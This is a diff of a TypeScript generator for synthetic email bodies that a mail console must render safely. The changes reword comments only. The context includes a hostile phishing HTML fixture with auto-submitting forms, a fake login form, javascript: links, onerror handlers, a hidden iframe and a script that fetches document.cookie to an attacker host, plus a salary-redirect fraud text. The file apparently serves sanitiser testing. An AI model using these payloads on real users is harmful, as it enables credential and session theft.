@@ -1,4 +1,4 @@
-/** Bodies of generated mail, hostile ones included: what a console must show without harm. */
+/** Bodies of generated mail, including hostile ones, which a console must render without harm. */
 import { CAMPAIGNS } from './campaigns.ts';
 import type { GeneratedMail } from './generated-mail.ts';
 import { type Random, random } from './prng.ts';
@@ -115,7 +115,7 @@ function bulk(mail: GeneratedMail, rng: Random): GeneratedBody {
 
 const HUGE_ROWS = 14_500;
 
-/** About 3 MB of table. */
+/** A table of about 3 MB. */
 function huge(mail: GeneratedMail, rng: Random): GeneratedBody {
   const rows: string[] = [];
   for (let i = 0; i < HUGE_ROWS; i += 1)
@@ -135,7 +135,7 @@ function phishing(mail: GeneratedMail, rng: Random): GeneratedBody {
     const text = `Hi,\r\n\r\nare you at your desk? I need a quick favour and can't talk.\r\nPlease change the account for my salary before Friday.\r\n\r\nIngrid\r\nSent from my phone\r\n`;
     return { html: null, text, inline: {} };
   }
-  // What a sanitiser has to stop: scripts, handlers, forms, frames, refreshes, styles that load and cover.
+  // Everything a sanitiser has to stop: scripts, handlers, forms, frames, refreshes, styles that load or overlay.
   const html = `<html><head><meta http-equiv="refresh" content="30;url=${escapeHtml(target)}"><base href="https://${host}/"><style>@import "https://${host}/x.css";.cover{position:fixed;inset:0;z-index:9}</style></head><body onload="document.forms[0].submit()"><p>${escapeHtml(sentences(mail, rng, 1).join(' '))}</p><p><a href="${escapeHtml(target)}" onclick="steal()">${escapeHtml(mail.links[0]?.text ?? 'Open')}</a> <a href="javascript:alert(1)">or here</a></p><form action="${escapeHtml(target || `https://${host}/login`)}" method="post"><input name="user" value="${escapeHtml(mail.recipients[0]?.email ?? '')}"><input name="password" type="password"><button>Sign in</button></form><iframe src="https://${host}/f" width="1" height="1"></iframe><object data="https://${host}/o.swf"></object><svg onload="alert(2)"><a xlink:href="javascript:alert(3)"><text y="10">x</text></a></svg><img src="x" onerror="alert(4)"><script>fetch("https://${host}/c?"+document.cookie)</script><img src="https://${host}/t.gif?m=${mail.entityId}" width="1" height="1"></body></html>`;
   const text = `${mail.subject}\r\n\r\n${target}\r\n`;
   return { html, text, inline: {} };
